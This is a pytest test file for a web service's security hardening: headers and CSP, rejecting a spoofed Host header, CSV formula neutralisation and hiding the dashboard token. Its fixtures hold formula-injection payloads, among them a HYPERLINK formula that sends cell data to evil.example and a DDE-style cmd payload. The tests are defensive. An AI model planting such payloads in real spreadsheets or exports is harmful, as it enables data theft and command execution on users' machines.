"""Headers and URLs (issue #23): security headers, links never built from the Host header, CSV cells that a
spreadsheet would run as formulas, the dashboard's owner token out of the address bar.

TestClient for the headers, links and exports; the system Chromium (Playwright) for the pages under their
Content-Security-Policy and for the dashboard's address bar.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
import struct
import zlib
from pathlib import Path

import httpx
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from study_support import LiveApp

from conftest import HTTP
from purebandits.service.app import create_app
from purebandits.service.models import participants
from purebandits.service.routes.experiments import neutralize
from purebandits.service.settings import Settings

TEMPLATES = Path(__file__).resolve().parents[2] / "src" / "purebandits" / "service" / "templates"
ITEMS = [{"id": f"c{i}", "text": f"caption {i}"} for i in range(5)]
EVIL = "evil.example"
SECURITY = {"x-frame-options": "DENY", "x-content-type-options": "nosniff", "referrer-policy": "no-referrer"}
PAGES = ["/", "/rate/{eid}", "/dashboard/{eid}", "/new", "/admin"]


def client(url: str, **kw) -> TestClient:
    return TestClient(create_app(Settings(database_url=url, ask_rate_per_second=0, participant_rate_per_second=0,
                                          create_rate_per_second=0, **kw)))


def create(c: TestClient, **kw) -> tuple[int, dict[str, str], dict]:
    r = c.post("/api/experiments", json={"name": "hardening", "items": ITEMS, "seed": 3, **kw})
    assert r.status_code == 201, r.text
    return r.json()["id"], {"Authorization": f"Bearer {r.json()['owner_token']}"}, r.json()


def directives(csp: str) -> dict[str, list[str]]:
    out = {}
    for part in csp.split(";"):
        words = part.split()
        if words:
            out[words[0]] = words[1:]
    return out


def assert_secure(r: httpx.Response, what: str, frameable: bool = False) -> None:
    for name, value in SECURITY.items():
        if name == "x-frame-options" and frameable:
            assert r.headers.get_list(name) == [], (what, name)
            continue
        assert r.headers.get_list(name) == [value], (what, name, r.headers.get_list(name))
    csp = r.headers.get_list("content-security-policy")
    assert len(csp) == 1, (what, csp)
    d = directives(csp[0])
    assert d["default-src"] == ["'self'"], (what, csp)
    # only the rating page may be framed (crowd platforms such as MTurk show it in an iframe), by web pages only
    assert d["frame-ancestors"] == (["https:", "http:"] if frameable else ["'none'"]), (what, csp)


def tiny_png() -> bytes:
    """A valid 1x1 PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


# ---------------------------------------------------------------- 1. security headers
def test_security_headers_on_pages_static_files_api_fast_path_and_errors(sqlite_url):
    with client(sqlite_url, max_body_bytes=20_000) as c:
        eid, auth, _ = create(c)
        for page in PAGES:
            r = c.get(page.format(eid=eid))
            assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
            assert_secure(r, page, frameable=page.startswith("/rate/"))
            d = directives(r.headers["content-security-policy"])
            # the pages' own scripts and styles only: no inline script, no eval, no inline style (but the
            # dashboard, whose BokehJS charts write <style> elements; it shows no item images instead)
            dashboard = page.startswith("/dashboard/")
            assert d["script-src"] == ["'self'"], page
            assert d["style-src"] == (["'self'", "'unsafe-inline'"] if dashboard else ["'self'"]), page
            assert d["object-src"] == ["'none'"] and d["base-uri"] == ["'none'"]
            if dashboard:
                assert set(d["img-src"]) == {"'self'", "data:"}
            else:  # item images may live on other sites (image_url), the /new form previews a data: URL
                assert {"'self'", "https:", "data:"} <= set(d["img-src"])
        for path in ("/static/dashboard.js", "/static/style.css", "/healthz", "/openapi.json",
                     f"/api/experiments/{eid}/public", f"/api/experiments/{eid}/results"):
            assert_secure(c.get(path, headers=auth), path)
        # the participant fast path (ask and answer) and its errors
        pid = c.post("/api/participants").json()["participant_id"]
        ask = c.post(f"/api/experiments/{eid}/queries", json={"participant_id": pid})
        assert ask.status_code == 200 and ask.json()["state"] == "ok"
        assert_secure(ask, "ask")
        ans = c.post(f"/api/queries/{ask.json()['query_id']}/answer", json={"participant_id": pid, "label": "funny"})
        assert ans.status_code == 200
        assert_secure(ans, "answer")
        assert_secure(c.post("/api/queries/nope/answer", json={"participant_id": pid, "label": "funny"}), "404")
        # errors from FastAPI, the exception handlers and BodySizeLimit
        assert_secure(c.get("/no/such/page"), "404")
        assert_secure(c.get(f"/api/experiments/{eid}/results"), "401")
        assert_secure(c.post("/api/experiments", json={"name": 5}), "422")
        big = c.post("/api/experiments", content=b"{" + b" " * 30_000 + b"}",
                     headers={"content-type": "application/json"})
        assert big.status_code == 413
        assert_secure(big, "413")


def test_no_store_on_owner_data_and_route_caching_kept(sqlite_url):
    with client(sqlite_url) as c:
        image = {"content_type": "image/png", "data": base64.b64encode(tiny_png()).decode()}
        created = c.post("/api/experiments", json={"name": "img", "items": ITEMS, "seed": 1, "image": image})
        assert created.status_code == 201, created.text
        assert created.headers["cache-control"] == "no-store"  # it holds the owner token
        eid, auth = created.json()["id"], {"Authorization": f"Bearer {created.json()['owner_token']}"}
        pid = c.post("/api/participants").json()["participant_id"]
        q = c.post(f"/api/experiments/{eid}/queries", json={"participant_id": pid}).json()
        assert c.post(f"/api/queries/{q['query_id']}/answer",
                      json={"participant_id": pid, "label": "funny"}).status_code == 200
        owner = ["/api/experiments", f"/api/experiments/{eid}"] + [
            f"/api/experiments/{eid}/{p}" for p in ("results", "comparison", "state", "answers.csv", "summary.csv",
                                                    "participants.csv")]
        for path in owner:
            r = c.get(path, headers=auth)
            assert r.status_code == 200, (path, r.text)
            assert r.headers.get_list("cache-control") == ["no-store"], path
        assert c.post(f"/api/experiments/{eid}/pause", headers=auth).headers["cache-control"] == "no-store"
        # refused owner requests are not cached either
        assert c.get(f"/api/experiments/{eid}/results").headers["cache-control"] == "no-store"
        # public endpoints: the image keeps its own public caching (one header, not two), /public none added
        img = c.get(f"/api/experiments/{eid}/image")
        assert img.status_code == 200 and img.headers.get_list("cache-control") == ["public, max-age=3600"]
        assert img.headers.get_list("x-content-type-options") == ["nosniff"]
        assert "cache-control" not in c.get(f"/api/experiments/{eid}/public").headers
        for page in PAGES:
            assert "no-store" not in c.get(page.format(eid=eid)).headers.get("cache-control", "")


def test_docs_pages_allow_exactly_their_own_inline_scripts(sqlite_url):
    with client(sqlite_url) as c:
        for path in ("/docs", "/docs/oauth2-redirect", "/redoc"):
            r = c.get(path)
            assert r.status_code == 200
            assert_secure(r, path)
            d = directives(r.headers["content-security-policy"])
            inline = re.findall(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", r.text, re.S)
            hashes = {f"'sha256-{base64.b64encode(hashlib.sha256(s.encode()).digest()).decode()}'" for s in inline}
            assert set(d["script-src"]) == {"'self'", *hashes}, path  # hashes only: no 'unsafe-inline', no eval
            assert d["style-src"] == ["'self'", "'unsafe-inline'"]  # ReDoc / Swagger UI insert <style> elements
        assert len(directives(c.get("/docs").headers["content-security-policy"])["script-src"]) == 2


def test_templates_have_no_inline_script_style_or_handlers():
    for path in TEMPLATES.glob("*.html"):
        html = path.read_text(encoding="utf-8")
        for tag in re.findall(r"<script\b[^>]*>", html):
            assert "src=" in tag or 'type="application/json"' in tag, (path.name, tag)
        assert not re.search(r"\sstyle\s*=", html), path.name
        assert not re.search(r"\son[a-z]+\s*=", html), path.name
        assert "<style" not in html and "javascript:" not in html, path.name


# ---------------------------------------------------------------- 2. never the Host header
def test_host_header_is_never_reflected(sqlite_url):
    evil = {"host": EVIL}
    with client(sqlite_url) as c:
        r = c.post("/api/experiments", json={"name": "h", "items": ITEMS}, headers=evil)
        assert r.status_code == 201
        eid, token = r.json()["id"], r.json()["owner_token"]
        assert EVIL not in r.text
        # no public_url configured: root-relative links, resolved by the browser against its own address
        assert r.json()["participant_url"] == f"/rate/{eid}"
        assert r.json()["dashboard_url"] == f"/dashboard/{eid}#token={token}"
        listed = c.get("/api/experiments", headers=evil)
        assert EVIL not in listed.text and listed.json()["experiments"][0]["dashboard_url"] == f"/dashboard/{eid}"
        for page in [*PAGES, "/docs", "/redoc", "/docs/oauth2-redirect"]:
            r = c.get(page.format(eid=eid), headers=evil)
            assert r.status_code == 200 and EVIL not in r.text and EVIL not in str(r.headers), page
        assert '<script src="/static/dashboard.js">' in c.get(f"/dashboard/{eid}", headers=evil).text
        # Starlette's trailing-slash redirect builds an absolute URL from Host: made root-relative
        r = c.get("/api/experiments/", headers=evil, follow_redirects=False)
        assert r.status_code in (307, 308) and r.headers["location"] == "/api/experiments"


def test_links_come_from_the_configured_public_url(sqlite_url):
    with client(sqlite_url, public_url="https://bandits.example.org/") as c:
        r = c.post("/api/experiments", json={"name": "h", "items": ITEMS}, headers={"host": EVIL})
        eid, token = r.json()["id"], r.json()["owner_token"]
        assert r.json()["participant_url"] == f"https://bandits.example.org/rate/{eid}"
        assert r.json()["dashboard_url"] == f"https://bandits.example.org/dashboard/{eid}#token={token}"
        listed = c.get("/api/experiments", headers={"host": EVIL}).json()["experiments"]
        assert listed[0]["participant_url"] == f"https://bandits.example.org/rate/{eid}"
    assert Settings.from_env({}).public_url is None
    assert Settings.from_env({"PUREBANDITS_PUBLIC_URL": "https://x.example"}).public_url == "https://x.example"


def test_serve_links_use_its_address_or_public_url_env(server_cls, tmp_path):
    with server_cls(f"sqlite:///{tmp_path / 'a.sqlite'}") as srv:
        r = HTTP.post(f"{srv.url}/api/experiments", json={"name": "a", "items": ITEMS}, headers={"host": EVIL})
        assert r.status_code == 201 and EVIL not in r.text
        assert r.json()["participant_url"] == f"{srv.url}/rate/{r.json()['id']}"
    env = {"PUREBANDITS_PUBLIC_URL": "https://bandits.example.org"}
    with server_cls(f"sqlite:///{tmp_path / 'b.sqlite'}", env=env) as srv:
        r = HTTP.post(f"{srv.url}/api/experiments", json={"name": "b", "items": ITEMS})
        assert r.json()["participant_url"] == f"https://bandits.example.org/rate/{r.json()['id']}"


# ---------------------------------------------------------------- 3. CSV formula injection
def test_neutralize():
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK(\"http://x\")"):
        assert neutralize(bad) == "'" + bad
    for ok in ("caption", "", "1-1", " =x", "'=x", "funny"):
        assert neutralize(ok) == ok
    for number in (-1.5, -3, 0, 2.5, None):
        assert neutralize(number) == number


def read_csv(r: httpx.Response) -> list[dict[str, str]]:
    assert r.status_code == 200, r.text
    return list(csv.DictReader(io.StringIO(r.text)))


def test_csv_exports_neutralise_formulas(sqlite_url):
    items = [{"id": "=id()", "text": '=HYPERLINK("http://evil.example/?"&A1,"click")'},
             {"id": "b", "text": "@SUM(1+1)*cmd|' /C calc'!A0"}, {"id": "c", "text": "+plus"},
             {"id": "d", "text": "-minus"}, {"id": "e", "text": "plain caption"}]
    labels = [{"name": "=bad", "reward": -1.5}, {"name": "good", "reward": 2}]
    with client(sqlite_url) as c:
        eid, auth, _ = create(c, items=items, labels=labels, algorithm="random_sampling")
        pids = ["=1+2", "@evil", "-x", "ok-worker"]
        # client-chosen ids (POST /api/participants {"participant_id": ...}); new ones starting with a formula
        # character are refused at intake, but a database may hold such ids from before: stored directly
        engine = sa.create_engine(sqlite_url)
        with engine.begin() as conn:
            conn.execute(participants.insert(), [{"id": pid, "created_ms": 1} for pid in pids])
        engine.dispose()
        for pid in pids:
            q = c.post(f"/api/experiments/{eid}/queries", json={"participant_id": pid}).json()
            assert c.post(f"/api/queries/{q['query_id']}/answer",
                          json={"participant_id": pid, "label": "=bad"}).status_code == 200
        answers = read_csv(c.get(f"/api/experiments/{eid}/answers.csv", headers=auth))
        assert {a["participant_id"] for a in answers} == {"'=1+2", "'@evil", "'-x", "ok-worker"}
        assert {a["label"] for a in answers} == {"'=bad"}
        assert {a["reward"] for a in answers} == {"-1.5"}  # a number stays a number
        assert {a["item_id"] for a in answers} <= {"'=id()", "b", "c", "d", "e"}
        summary = read_csv(c.get(f"/api/experiments/{eid}/summary.csv", headers=auth))
        captions = {row["caption"] for row in summary}
        assert captions == {"'" + items[0]["text"], "'" + items[1]["text"], "'+plus", "'-minus", "plain caption"}
        parts = read_csv(c.get(f"/api/experiments/{eid}/participants.csv", headers=auth))
        assert {p["participant_id"] for p in parts} == {"'=1+2", "'@evil", "'-x", "ok-worker"}
        for path in ("answers.csv", "summary.csv", "participants.csv"):
            text = c.get(f"/api/experiments/{eid}/{path}", headers=auth).text
            for row in csv.reader(io.StringIO(text)):
                assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row), (path, row)
                assert not any(cell.startswith("-") and not _is_number(cell) for cell in row), (path, row)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- browser: the pages under the CSP, the dashboard
@pytest.fixture
def live_url(sqlite_url):
    with LiveApp(Settings(database_url=sqlite_url, ask_rate_per_second=0, participant_rate_per_second=0,
                          create_rate_per_second=0)) as url:
        yield url


WATCH_CSP = ("window.__csp = []; document.addEventListener('securitypolicyviolation', "
             "(e) => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));")


@pytest.mark.browser
def test_pages_and_api_docs_work_under_the_csp(browser, live_url):
    r = HTTP.post(f"{live_url}/api/experiments", json={"name": "csp", "items": ITEMS, "seed": 1})
    eid, token = r.json()["id"], r.json()["owner_token"]
    ctx = browser.new_context(bypass_csp=False)  # the real policy (waits by selector: no eval)
    ctx.add_init_script(WATCH_CSP)
    checks = [("/docs", ".swagger-ui .opblock"), ("/redoc", "redoc .menu-content li"),
              ("/", "#experiments li a"), (f"/rate/{eid}", "#buttons button.label"),
              (f"/dashboard/{eid}#token={token}", "#ranking tbody tr"), ("/new", "#labels .label-row"),
              ("/admin", f"#experiments tr[data-eid='{eid}']")]
    for path, selector in checks:
        page = ctx.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
        page.goto(live_url + path)
        page.wait_for_selector(selector, timeout=20_000)  # rendered by its script
        page.wait_for_timeout(300)
        assert page.evaluate("window.__csp") == [], path
        assert errors == [], path
        page.close()
    ctx.close()


@pytest.mark.browser
def test_dashboard_takes_the_token_out_of_the_address_bar(browser, live_url):
    from playwright.sync_api import expect

    ctx = browser.new_context(bypass_csp=False, accept_downloads=True)
    ctx.add_init_script(WATCH_CSP)
    page = ctx.new_page()
    # the /new form: the server answers with root-relative links, the page shows them in full
    page.goto(f"{live_url}/new")
    page.fill("#name", "address bar")
    page.set_input_files("#items-file", files=[{"name": "items.csv", "mimeType": "text/csv",
                                                "buffer": b"text\nfirst\nsecond\nthird\n"}])
    page.click("#create")
    page.wait_for_selector("#created:not([hidden])")
    eid, token = int(page.text_content("#created-id")), page.text_content("#owner-token")
    assert page.text_content("#participant-link") == page.get_attribute("#participant-link", "href") \
        == f"{live_url}/rate/{eid}"
    dash_url = page.get_attribute("#dashboard-link", "href")
    assert dash_url == f"{live_url}/dashboard/{eid}#token={token}"

    # one answer from the rating page, under the same policy
    rate = ctx.new_page()
    rate.goto(f"{live_url}/rate/{eid}")
    rate.click("#buttons button.label:not([disabled])")
    expect(rate.locator("#n-rated")).to_have_text("1")
    assert rate.evaluate("window.__csp") == [] and page.evaluate("window.__csp") == []

    dash = ctx.new_page()
    dash.goto(dash_url)
    expect(dash.locator("#n-items")).to_have_text("3")
    expect(dash.locator("#n-answers")).to_have_text("1")
    assert dash.evaluate("location.href") == f"{live_url}/dashboard/{eid}"
    assert token not in dash.evaluate("location.href + String(history.state)")
    expect(dash.locator("#status")).to_have_text("active")
    assert dash.is_hidden("#token-form")
    # a reload has no fragment: the token kept in this tab's sessionStorage opens it again
    dash.reload()
    expect(dash.locator("#status")).to_have_text("active")
    assert dash.is_hidden("#token-form") and token not in dash.evaluate("location.href")
    dash.click("#pause")
    expect(dash.locator("#status")).to_have_text("paused")
    with dash.expect_download() as dl:  # a blob: download, still allowed
        dash.click("#export-answers")
    assert dl.value.suggested_filename == f"experiment-{eid}-answers.csv"
    assert len(Path(dl.value.path()).read_text(encoding="utf-8").splitlines()) == 2
    # back and forward: no history entry holds the token
    dash.goto(f"{live_url}/")
    dash.go_back()
    expect(dash.locator("#status")).to_have_text("paused")
    assert dash.evaluate("location.href") == f"{live_url}/dashboard/{eid}"
    assert dash.evaluate("window.__csp") == []

    # a wrong token is cleared from the address bar too, asks for the token and is not kept
    other = browser.new_context(bypass_csp=False)
    bad = other.new_page()
    bad.goto(f"{live_url}/dashboard/{eid}#token=wrong-token")
    bad.wait_for_selector("#token-form:not([hidden])")
    assert "wrong-token" not in bad.evaluate("location.href + JSON.stringify(sessionStorage)")
    assert bad.text_content("#n-answers") == "0"
    bad.fill("#token-input", token)
    bad.click("#token-form button[type=submit]")
    expect(bad.locator("#status")).to_have_text("paused")
    assert bad.input_value("#token-input") == "" and bad.is_hidden("#token-form")
    other.close()
    ctx.close()


def test_bokehjs_is_compressed_for_clients_that_accept_gzip(sqlite_url):
    from purebandits.service.routes.pages import bokehjs

    version, folder = bokehjs()
    raw = (folder / "bokeh.min.js").read_bytes()
    with TestClient(create_app(Settings(database_url=sqlite_url))) as c:
        url = f"/static/bokeh/{version}/bokeh.min.js"
        z = c.get(url, headers={"Accept-Encoding": "gzip"})
        assert z.status_code == 200 and z.headers["content-encoding"] == "gzip"
        assert z.headers["vary"] == "Accept-Encoding" and "immutable" in z.headers["cache-control"]
        assert len(z.content) == len(raw)  # the client decompressed it ...
        assert int(z.headers["content-length"]) < len(raw) // 2  # ... from less than half the bytes
        plain = c.get(url, headers={"Accept-Encoding": "identity"})
        assert plain.content == raw and "content-encoding" not in plain.headers
